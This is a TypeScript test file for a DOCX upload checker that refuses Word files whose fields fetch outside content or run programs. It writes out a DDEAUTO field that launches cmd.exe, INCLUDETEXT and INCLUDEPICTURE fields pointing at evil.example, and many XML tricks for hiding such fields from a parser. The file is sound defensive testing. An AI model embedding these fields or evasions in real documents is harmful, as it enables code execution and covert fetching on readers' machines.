/** Fields of a Word file that fetch something, or start a program: found however they are written, and no others taken for them. */
import { expect, test } from 'vitest';
import { aDocx } from '../../../../../tests/support/documents.ts';
import { aFileOf } from '../../../../../tests/support/files.ts';
import { inspectDocument } from './inspect-document.ts';

const EXTERNAL_MESSAGE = 'This Word file has links to places outside it. Save it as a PDF and upload that.';
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const STRICT = 'http://purl.oclc.org/ooxml/wordprocessingml/main';
const COMPATIBILITY = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
const MATH = 'http://schemas.openxmlformats.org/officeDocument/2006/math';

const run = (xml: string) => `<w:r>${xml}</w:r>`;
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const aPart = (body: string, word = WORD) =>
  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${word}" xmlns:mc="${COMPATIBILITY}" xmlns:x="urn:x" mc:Ignorable="x"><w:body><w:p>${body}</w:p></w:body></w:document>`;
const instruction = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const aField = (...pieces: string[]) => mark('begin') + pieces.map(instruction).join('') + mark('end');
/** What programs that know only the second alternative read the second of. */
const alternatives = (choice: string, fallback: string) =>
  `<mc:AlternateContent><mc:Choice Requires="x">${choice}</mc:Choice><mc:Fallback>${fallback}</mc:Fallback></mc:AlternateContent>`;

test.each([
  ['DDEAUTO', 'word/document.xml', aField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
  ['DDE in pieces', 'word/document.xml', aField('D', 'D', 'E excel book')],
  [
    'a field after a nested one',
    'word/document.xml',
    mark('begin') + aField('QUOTE 1') + run('<w:instrText>ddeauto x</w:instrText>'),
  ],
  ['a letter as a number', 'word/document.xml', aField('&#68;DEAUTO x')],
  ['a comment inside', 'word/document.xml', aField('DDE<!-- -->AUTO x')],
  ['CDATA', 'word/document.xml', aField('<![CDATA[DDEAUTO x]]>')],
  ['a letter as a long number', 'word/document.xml', aField('&#x0000000044;DEAUTO x')],
  [
    'between what only looks like the ends of a comment',
    'word/document.xml',
    run('<w:t>&#60;!--</w:t>') + aField('DDEAUTO x') + run('<w:t>--&#62;</w:t>'),
  ],
  [
    'with deleted letters between its own',
    'word/document.xml',
    aField('DDE</w:instrText><w:delInstrText>x</w:delInstrText><w:instrText>AUTO x'),
  ],
  ['behind a sign in an attribute', 'word/document.xml', `<w:p w:x=">">${aField('DDEAUTO x')}</w:p>`],
  ['INCLUDETEXT', 'word/footnotes.xml', aField('INCLUDETEXT "https://evil.example/a.docx"')],
  ['INCLUDEPICTURE', 'word/header1.xml', aField(' INCLUDEPICTURE "https://evil.example/a.png" \\d ')],
  [
    'a simple field',
    'word/document.xml',
    '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example&quot; "/>',
  ],
  ['another prefix', 'word/document.xml', `<y:fldSimple xmlns:y="${WORD}" y:instr='LINK Excel.Sheet book'/>`],
])('a DOCX that fetches something by a field is refused: %s', async (_what, part, body) => {
  const path = await aFileOf(aDocx({ parts: { [part]: aPart(body) } }));
  expect(await inspectDocument({ path, fileName: 'a.docx', declaredType: '' })).toEqual({
    ok: false,
    reason: 'external',
    message: EXTERNAL_MESSAGE,
  });
});

test.each([
  [
    'an instruction that is not of Word',
    mark('begin') + run('<x:instrText>z</x:instrText>') + instruction('DDEAUTO c:\\cmd') + mark('end'),
  ],
  [
    'one whose prefix means something else there',
    mark('begin') + run('<w:instrText xmlns:w="urn:x">z</w:instrText>') + instruction('DDE x') + mark('end'),
  ],
  [
    'an instruction of Word in an element that is not',
    mark('begin') + `<x:x>${instruction('z')}</x:x>` + instruction('DDEAUTO c:\\cmd') + mark('end'),
  ],
  [
    'an alternative that is not taken',
    mark('begin') + alternatives(instruction('z'), '') + instruction('DDEAUTO c:\\cmd') + mark('end'),
  ],
  [
    'the other alternative',
    mark('begin') + alternatives(instruction('D'), instruction('L')) + instruction('INK x') + mark('end'),
  ],
  [
    'a mark that is not of Word',
    mark('begin') +
      instruction('INC') +
      run('<x:fldChar x:fldCharType="end"/><x:fldChar/>') +
      instruction('LUDETEXT x') +
      mark('end'),
  ],
  [
    'a field within, between the letters',
    mark('begin') + instruction('INC') + aField('PAGE') + instruction('LUDETEXT x') + mark('end'),
  ],
  [
    'a tab behind the word',
    mark('begin') + instruction('INCLUDETEXT') + run('<w:tab/>') + instruction('http://x') + mark('end'),
  ],
  [
    'letters in a deletion',
    mark('begin') +
      instruction('D') +
      `<w:del>${instruction('z')}</w:del>` +
      instruction('DE x') +
      mark('end'),
  ],
  [
    'letters outside the instruction',
    mark('begin') + run('<w:t>D</w:t>') + instruction('DE x') + mark('end'),
  ],
])('a DOCX whose fetching field is hidden by %s is refused', async (_what, body) => {
  for (const word of [WORD, STRICT])
    expect(await inspected(aPart(body, word))).toMatchObject({ ok: false, reason: 'external' });
});

test.each([
  ['an element within an instruction', aField('D<x:instrText/>DEAUTO x'), 'damaged'],
  ['a mark of no kind', mark('begin') + mark('') + mark('end'), 'damaged'],
  ['a mark of two kinds', run('<w:fldChar w:fldCharType="begin" w:fldCharType="end"/>'), 'damaged'],
  ['ends of elements that are not open', `${aField('D')}</w:p></w:p><w:p><w:p>`, 'damaged'],
  ['elements that do not end', '<w:p>', 'damaged'],
  [
    'a thousand attributes',
    `<w:p${Array.from({ length: 1001 }, (_, index) => ` w:a${index}="1"`).join('')}/>`,
    'damaged',
  ],
  ['a thousand elements within each other', '<w:p>'.repeat(1000) + '</w:p>'.repeat(1000), 'damaged'],
  [
    'a mark that may be left out',
    mark('begin') + instruction('D') + `<x:x>${mark('end')}${mark('begin')}</x:x>` + instruction('DE x'),
    'too-complex',
  ],
  [
    'a mark in a text box',
    `${mark('begin')}${instruction('D')}<w:txbxContent>${mark('end')}</w:txbxContent>${instruction('DE x')}`,
    'too-complex',
  ],
])('a DOCX whose fields cannot be told is refused: %s', async (_what, body, reason) => {
  expect(await inspected(aPart(body))).toMatchObject({ ok: false, reason });
});

const textBox = (body: string) =>
  alternatives(
    `<w:drawing><x:txbx><w:txbxContent><w:p>${body}</w:p></w:txbxContent></x:txbx></w:drawing>`,
    `<w:pict><w:txbxContent><w:p>${body}</w:p></w:txbxContent></w:pict>`,
  );

test.each([
  ['the number of the page', aField(' PAGE ')],
  ['a link to a place in the document', aField('HYPERLINK \\l "include"')],
  ['a reference to a place that is called so', aField('REF LINKED')],
  ['an entry of the index, in pieces', aField(' XE "', 'Database', '" ')],
  ['a field of a letter, in pieces', aField(' MERGEFIELD ', 'Link', ' \\* MERGEFORMAT')],
  ['the date', aField('DATE \\@ "d.M.yyyy"') + aField('D', 'ATE')],
  ['such words in a text', run('<w:t>DDEAUTO and INCLUDETEXT are fields</w:t>')],
  [
    'such words in a result',
    mark('begin') + instruction('PAGE') + mark('separate') + run('<w:t>Link</w:t>') + mark('end'),
  ],
  [
    'such words in a condition',
    mark('begin') + instruction('IF ') + aField('PAGE') + instruction('= 1 "Link"') + mark('end'),
  ],
  [
    'contents with a drawing that has a field',
    mark('begin') +
      instruction(' TOC \\o "1-3" ') +
      mark('separate') +
      run(textBox(aField('PAGE') + run('<w:t>Include</w:t>'))) +
      mark('end'),
  ],
  [
    'a number in an equation',
    `<m:oMath xmlns:m="${MATH}"><m:r><w:fldChar w:fldCharType="begin"/></m:r><m:r><w:instrText>SEQ Equation</w:instrText></m:r><m:r><w:fldChar w:fldCharType="end"/></m:r></m:oMath>`,
  ],
  [
    'a deleted field',
    `<w:del>${mark('begin')}${run('<w:delInstrText>PAGE</w:delInstrText>')}${mark('separate')}${run('<w:delText>1</w:delText>')}${mark('end')}</w:del>`,
  ],
])('a DOCX with fields that fetch nothing is accepted: %s', async (_what, body) => {
  expect(await inspected(aPart(body))).toMatchObject({ ok: true });
});

async function inspected(document: string) {
  const path = await aFileOf(aDocx({ parts: { 'word/document.xml': document } }));
  return inspectDocument({ path, fileName: 'a.docx', declaredType: '' });
}
